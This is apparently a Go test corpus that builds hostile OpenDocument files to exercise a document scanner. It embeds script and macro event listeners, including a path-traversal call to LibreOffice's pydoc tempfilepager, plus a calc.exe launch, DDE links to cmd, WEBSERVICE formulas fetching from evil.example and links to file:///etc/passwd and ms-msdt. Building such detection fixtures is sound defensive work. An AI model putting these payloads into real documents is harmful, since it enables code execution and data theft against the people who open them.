package corpus

import (
	"maps"
	"slices"
	"strings"
)

func hostileODFParts() (files []File) {
	anchor := func(href string) string { return `<text:p><text:a xlink:href="` + href + `">x</text:a></text:p>` }
	event := func(href string) string {
		return `<draw:frame><office:event-listeners><presentation:event-listener presentation:action="show" xlink:href="` + href + `"/></office:event-listeners></draw:frame>`
	}
	image := func(href string) string { return `<draw:frame><draw:image xlink:href="` + href + `"/></draw:frame>` }
	script := "vnd.sun.star.script:../../../program/python-core/lib/pydoc.py$tempfilepager?language=Python&amp;location=share"
	texts := map[string]string{
		"a script by a character reference":                   event("&#118;" + script[1:]),
		"a script after a space":                              event(" " + script),
		"a script in capitals":                                event("VND.SUN.STAR.SCRIPT:x.py$f"),
		"a script after a line break":                         event("&#10;" + script),
		"a macro by its address":                              anchor("macro:///Standard.Module1.Main()"),
		"a macro of a document by its address":                anchor("Macro://./Standard.Module1.Main()"),
		"a browser script":                                    anchor("javascript:alert(1)"),
		"a script listener":                                   `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="#"/></office:event-listeners>`,
		"a script listener that names a macro":                `<script:event-listener script:language="StarBasic" script:macro-name="a"/>`,
		"a script listener with another prefix":               `<q:event-listener xmlns:q="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/>`,
		"a script in the document":                            `<office:scripts><office:script script:language="x">Sub Main</office:script></office:scripts>`,
		"a module in the document":                            `<office:scripts><office:script><o:libraries xmlns:o="http://openoffice.org/2004/office"><o:library-embedded><o:module>x</o:module></o:library-embedded></o:libraries></office:script></office:scripts>`,
		"a script in the text":                                `<text:script script:language="JavaScript">x</text:script>`,
		"a field that runs a macro":                           `<text:execute-macro text:name="a"/>`,
		"a click that starts a program":                       `<presentation:event-listener presentation:action="execute" xlink:href="calc.exe"/>`,
		"a click that opens an object":                        `<presentation:event-listener presentation:action="verb"/>`,
		"a click of an unknown kind":                          `<presentation:event-listener presentation:action="Execute"/>`,
		"a frame that loads":                                  `<draw:floating-frame xlink:href="http://evil.example/" xlink:actuate="onLoad"/>`,
		"a frame that loads a file":                           `<draw:floating-frame xlink:href="file:///etc/passwd"/>`,
		"an object from elsewhere":                            `<draw:object xlink:href="http://evil.example/a.odt" xlink:actuate="onLoad"/>`,
		"an object on a share":                                `<draw:object xlink:href="//evil/a.odt"/>`,
		"an OLE object":                                       `<draw:object-ole xlink:href="./Object 1"/>`,
		"an applet":                                           `<draw:applet xlink:href="a.class"/>`,
		"a plug-in":                                           `<draw:plugin draw:mime-type="application/x-shockwave-flash" xlink:href="a"/>`,
		"a film that is loaded from elsewhere":                `<draw:plugin draw:mime-type="application/vnd.sun.star.media" xlink:href="http://evil.example/a.mp4"/>`,
		"a section from a file":                               `<text:section><text:section-source xlink:href="file:///etc/passwd"/></text:section>`,
		"a section from elsewhere":                            `<text:section><text:section-source xlink:href="https://evil.example/a.odt"/></text:section>`,
		"a section beside the file":                           `<text:section><text:section-source xlink:href="../a.odt"/></text:section>`,
		"an image from elsewhere":                             image("http://evil.example/a.png"),
		"an image from elsewhere, in references":              image("ht&#116;p://evil.example/a.png"),
		"an image on a share":                                 image(`\\evil\a.png`),
		"an image from a file":                                image("file:///home/x/a.png"),
		"an image that leads out":                             image("../../a.png"),
		"an image with two addresses":                         `<draw:image xlink:href="a.png" draw:href="http://evil.example/"/>`,
		"a button with an image from elsewhere":               `<form:button form:image-data="http://evil.example/a.png"/>`,
		"a style with an image from elsewhere":                `<style:background-image xlink:href="http://evil.example/a.png"/>`,
		"a DDE data source":                                   `<office:dde-source office:dde-application="soffice" office:automatic-update="true"/>`,
		"a DDE connection":                                    `<text:dde-connection-decl office:dde-application="cmd" office:automatic-update="true"/>`,
		"a table that is linked":                              `<table:table><table:table-source xlink:href="a.ods"/></table:table>`,
		"cells from elsewhere":                                `<table:cell-range-source xlink:href="http://evil.example/"/>`,
		"cells from a database":                               `<table:database-source-sql table:sql-statement="x"/>`,
		"a form that reads a database":                        `<form:form form:datasource="x"/>`,
		"a form with a connection":                            `<form:connection-resource xlink:href="x"/>`,
		"a template from elsewhere":                           `<meta:template xlink:href="http://evil.example/t.ott"/>`,
		"a template on a share":                               `<meta:template xlink:href="file://evil/t.ott"/>`,
		"a page that loads another":                           `<meta:auto-reload xlink:href="http://evil.example/"/>`,
		"a link to a share":                                   anchor(`\\evil\share`),
		"a link to a file":                                    anchor("file:///C:/a.exe"),
		"a link to a scheme":                                  anchor("ms-msdt:/id"),
		"a formula that asks a program, in ODF":               `<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;;&quot;y&quot;)"/>`,
		"a formula that fetches, in ODF":                      `<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
		"a formula that fetches by another name":              `<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
		"a named expression that fetches":                     `<table:named-expression table:expression="of:WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
		"a named expression that fetches, and is long":        `<table:named-expression table:expression="of:` + strings.Repeat("1+", 3000) + `WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
		"a condition of LibreOffice that fetches":             `<calcext:condition xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" calcext:value="formula-is(WEBSERVICE(&quot;http://evil.example/&quot;))"/>`,
		"a formula that asks a program, in ODF, with a colon": `<table:table-cell table:formula="=cmd|calc!A1:B2"/>`,
		"a menu that calls a macro after a blank":             `<menu:menuitem xmlns:menu="http://openoffice.org/2001/menu" menu:id=" macro:///x"/>`,
		"a condition that fetches, in ODF":                    `<table:content-validation table:condition="of:cell-content()=WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
		"a condition that fetches, and is long":               `<table:content-validation table:condition="of:` + strings.Repeat("1+", 3000) + `WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
		"a formula that fetches, and is long, in ODF":         `<table:table-cell table:formula="of:=` + strings.Repeat("1+", 3000) + `WEBSERVICE(&quot;http://evil.example/&quot;)"/>`,
	}
	for _, about := range slices.Sorted(maps.Keys(texts)) {
		files = append(files, File{About: "OpenDocument: " + about, Name: "a.odt", Type: typeODT, Code: content, Content: odfText(texts[about])})
	}
	more := map[string][]byte{
		"a script in UTF-16":             odf(typeODT, "", file("content2.xml", utf16LE(strings.Replace(odfContent(event(script)), "UTF-8", "UTF-16", 1)))),
		"a script under another name":    odf(typeODT, "", file("Object 1", odfContent(event(script)))),
		"a command that is a script":     odf(typeODT, "", file("Configurations2/menubar/menubar.xml", `<menu:menubar xmlns:menu="http://openoffice.org/2001/menu"><menu:menuitem menu:id="vnd.sun.star.script:x$f"/></menu:menubar>`)),
		"a key that is a script":         odf(typeODT, "", file("Configurations2/accelerator/current.xml", `<a:acceleratorlist xmlns:a="http://openoffice.org/2001/accel" xmlns:xlink="http://www.w3.org/1999/xlink"><a:item xlink:href="vnd.sun.star.script:x$f"/></a:acceleratorlist>`)),
		"dialogs":                        odf(typeODT, "", file("Dialogs/Standard/a.xml", "<x/>")),
		"a document type from elsewhere": odf(typeODT, "", file("content2.xml", `<!DOCTYPE math:math PUBLIC "-//OpenOffice.org//DTD Modified W3C MathML 1.01//EN" "http://evil.example/math.dtd"><x/>`)),
		"a document type with a subset":  odf(typeODT, "", file("content2.xml", `<!DOCTYPE math:math PUBLIC "-//OpenOffice.org//DTD Modified W3C MathML 1.01//EN" "math.dtd" [<!ENTITY a "b">]><x/>`)),
		"a batch file":                   odf(typeODT, "", file("Pictures/a.bat", "calc")),
		"a script file":                  odf(typeODT, "", file("Pictures/a.js", "x")),
		"content that is not XML":        odf(typeODT, "", file("styles.xml", "hello")),
		"content in Shift_JIS":           odf(typeODT, "", file("styles.xml", `<?xml version="1.0" encoding = "Shift_JIS"?><x/>`)),
	}
	for _, about := range slices.Sorted(maps.Keys(more)) {
		files = append(files, File{About: "OpenDocument: " + about, Name: "a.odt", Type: typeODT, Code: content, Content: more[about]})
	}
	return append(files, File{
		About: "OpenDocument: slides whose click is a script", Name: "a.odp", Type: typeODP, Code: content,
		Content: odf(typeODP, "", file("content2.xml", odfContent(event(script)))),
	})
}
